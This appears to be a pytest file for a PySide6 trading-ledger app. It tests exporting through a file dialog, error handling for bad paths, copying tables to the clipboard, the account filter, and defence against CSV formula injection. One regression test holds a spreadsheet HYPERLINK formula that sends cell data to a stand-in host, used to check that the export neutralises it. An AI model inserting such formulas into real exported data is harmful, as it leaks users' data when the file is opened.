"""The window's File → Export (the CLI's exports through a file dialog opened with `open()`),
its error message for a path that cannot be written, and Copy on every table."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal as D
from pathlib import Path

from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QLineEdit, QMessageBox

from app.db import repository
from app.domain.export import COLUMNS, ExportFormat, ExportKind
from app.domain.manual import LifecycleVersion, MarkClosedRequest
from app.ui.exporting import CSV_FILTER, JSON_FILTER, destination_format
from tests.ui.conftest import eventually, free_port
from tests.ui.test_charts import known_ledger
from tests.ui.test_window import visible_dialog


def test_file_export_writes_what_the_cli_writes(make_app, qloop, tmp_path):
    known_ledger(tmp_path / "ledger.sqlite")
    app = make_app(free_port())
    w = app.window
    out = tmp_path / "exports"
    out.mkdir()

    async def scenario():
        await app.start()
        assert [a.text() for a in w.export_actions.values()] == [
            "Open positions…",
            "All positions, open and closed…",
            "Events of every position…",
            "Fills…",
            "Open FIFO tax lots…",
        ]
        w.export_actions[ExportKind.EVENTS].trigger()
        dialog = await eventually(lambda: app.controller.exporter.dialog)
        await eventually(dialog.isVisible)
        # open(), not exec(): window-modal, and the loop keeps running meanwhile.
        assert dialog.windowModality() == Qt.WindowModality.WindowModal
        dialog.selectNameFilter(JSON_FILTER)
        dialog.setDirectory(str(out))
        # Typed into the dialog's name field (selectFile leaves a focused field alone).
        dialog.findChild(QLineEdit, "fileNameEdit").setText("events.json")
        dialog.accept()
        target = out / "events.json"
        await eventually(target.exists)
        document = json.loads(target.read_text())
        assert document["export"] == "events"
        assert tuple(document["columns"]) == COLUMNS[ExportKind.EVENTS]
        events = app.runtime.db.run_sync(repository.all_events)
        assert [r["id"] for r in document["rows"]] == [e.id for e in events]
        await eventually(lambda: "Exported" in w.statusBar().currentMessage())
        assert str(target) in w.statusBar().currentMessage()

        # Cancelling writes nothing.
        w.export_actions[ExportKind.FILLS].trigger()
        dialog = await eventually(lambda: app.controller.exporter.dialog)
        dialog.reject()
        await eventually(lambda: app.controller.exporter.dialog is None)
        assert sorted(p.name for p in out.iterdir()) == ["events.json"]

        # A folder that does not exist: a message naming the path, nothing written.
        bad = tmp_path / "gone" / "fills.csv"
        task = asyncio.ensure_future(
            app.controller.exporter.export_to(ExportKind.FILLS, bad, ExportFormat.CSV)
        )
        box = await eventually(lambda: visible_dialog(QMessageBox))
        assert str(bad) in box.text() and "does not exist" in box.text()
        box.button(QMessageBox.StandardButton.Ok).click()
        assert await task is None
        assert not bad.parent.exists()

    qloop.run_until_complete(asyncio.wait_for(scenario(), 60))


def test_copy_selected_and_all_rows_as_tab_separated_text(make_app, qloop, tmp_path):
    known_ledger(tmp_path / "ledger.sqlite")
    app = make_app(free_port())
    w = app.window

    async def scenario():
        await app.start()
        for view in w.tables():
            assert [a.text() for a in view.actions()] == ["Copy", "Copy all rows"]
            assert view.contextMenuPolicy() == Qt.ContextMenuPolicy.ActionsContextMenu

        # Ctrl+C on the cache table: the header and the selected row, exact quantity.
        msft = next(p for p in w.cache_model.values() if p.contract.symbol == "MSFT")
        w.cache_table.setFocus()
        w.cache_table.selectRow(w.cache_model.row_of(msft.key))
        QGuiApplication.clipboard().clear()
        QTest.keyClick(w.cache_table, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
        header, row, *rest = QGuiApplication.clipboard().text().split("\n")
        assert header.split("\t")[:3] == ["Account", "Symbol", "Qty"]
        assert row.split("\t")[:3] == ["DU222", "MSFT", "0.25"]
        assert rest == [""]

        # The history's events: several rows may be selected; "Copy all rows" takes them all.
        (aapl,) = w.closed_model.values()
        w.closed_table.selectRow(w.closed_model.row_of(aapl.id))
        await eventually(lambda: w.events_model.rowCount() == 3)
        w.events_table.selectAll()
        copy, copy_all = w.events_table.actions()
        copy.trigger()
        lines = QGuiApplication.clipboard().text().splitlines()
        assert len(lines) == 4 and lines[0].startswith("When\tEvent\tQty before\tQty after")
        assert [line.split("\t")[1] for line in lines[1:]] == ["Opened", "Reduced", "Closed"]
        w.runs_table.clearSelection()
        copy_all_runs = w.runs_table.actions()[1]
        copy_all_runs.trigger()
        assert len(QGuiApplication.clipboard().text().splitlines()) == 1 + w.runs_model.rowCount()
        # Moved columns are copied where the user put them.
        w.fills_table.horizontalHeader().moveSection(2, 0)  # Shares first
        w.fills_table.actions()[1].trigger()
        assert QGuiApplication.clipboard().text().startswith("Shares\tTime\tSide\tPrice")
        assert copy_all is not None

    qloop.run_until_complete(asyncio.wait_for(scenario(), 60))


def test_destination_format():
    assert destination_format(Path("a.JSON"), CSV_FILTER) is ExportFormat.JSON
    assert destination_format(Path("a.csv"), JSON_FILTER) is ExportFormat.CSV
    assert destination_format(Path("a"), JSON_FILTER) is ExportFormat.JSON
    assert destination_format(Path("a.txt"), CSV_FILTER) is ExportFormat.CSV


def test_export_honours_the_account_filter_unless_asked_for_everything(make_app, qloop, tmp_path):
    """Regression (issue 19): File → Export ignored the account filter the user was looking at."""
    known_ledger(tmp_path / "ledger.sqlite")  # DU111: AAPL (closed); DU222: MSFT (open)
    app = make_app(free_port())
    w = app.window
    exporter = app.controller.exporter

    async def scenario():
        await app.start()
        assert w.export_only_shown.isChecked()  # the default: what is shown
        w.account_filter.setCurrentText("DU111")
        target = tmp_path / "all-du111.csv"
        assert await exporter.export_to(ExportKind.ALL, target, ExportFormat.CSV) == 1
        rows = list(csv.DictReader(io.StringIO(target.read_text())))
        assert {r["account"] for r in rows} == {"DU111"} and rows[0]["symbol"] == "AAPL"
        assert "of DU111" in w.statusBar().currentMessage()
        # The user asks for everything: the filter stays, the export covers both accounts.
        w.export_only_shown.setChecked(False)
        assert await exporter.export_to(ExportKind.ALL, target, ExportFormat.CSV) == 2
        rows = list(csv.DictReader(io.StringIO(target.read_text())))
        assert {r["account"] for r in rows} == {"DU111", "DU222"}
        # All accounts shown: everything, checked or not.
        w.export_only_shown.setChecked(True)
        w.account_filter.setCurrentIndex(0)
        fills = tmp_path / "fills.json"
        assert await exporter.export_to(ExportKind.FILLS, fills, ExportFormat.JSON) == 3

    qloop.run_until_complete(asyncio.wait_for(scenario(), 60))


def test_csv_neutralises_a_formula_typed_into_mark_closed(make_app, qloop, tmp_path):
    """Regression (issue 19): a note typed into Mark closed that starts with = (or + - @) was
    run as a formula by spreadsheets opening the CSV export. Negative amounts stay numbers."""
    known_ledger(tmp_path / "ledger.sqlite")
    app = make_app(free_port())
    w = app.window
    formula = '=HYPERLINK("http://example.test/?"&A1,"click")'

    async def scenario():
        await app.start()
        (msft,) = w.cache_model.values()
        events = app.runtime.db.run_sync(repository.events, msft.id)
        seen = LifecycleVersion.of(msft, events[-1].id)
        when = datetime.now(UTC).replace(microsecond=0)
        await app.runtime.writer.mark_closed(MarkClosedRequest(seen, D("390"), when, formula))
        csv_out, json_out = tmp_path / "events.csv", tmp_path / "events.json"
        await app.controller.exporter.export_to(ExportKind.EVENTS, csv_out, ExportFormat.CSV)
        await app.controller.exporter.export_to(ExportKind.EVENTS, json_out, ExportFormat.JSON)
        rows = list(csv.DictReader(io.StringIO(csv_out.read_text())))
        notes = [r["note"] for r in rows if r["kind"] == "MARKED_CLOSED"]
        assert notes == ["'" + formula]
        losses = [r["realized_pnl"] for r in rows if r["realized_pnl"].startswith("-")]
        assert "-601" in losses  # AAPL's close: a negative number, kept as a number
        document = json.loads(json_out.read_text())
        assert [r["note"] for r in document["rows"] if r["kind"] == "MARKED_CLOSED"] == [formula]

    qloop.run_until_complete(asyncio.wait_for(scenario(), 60))
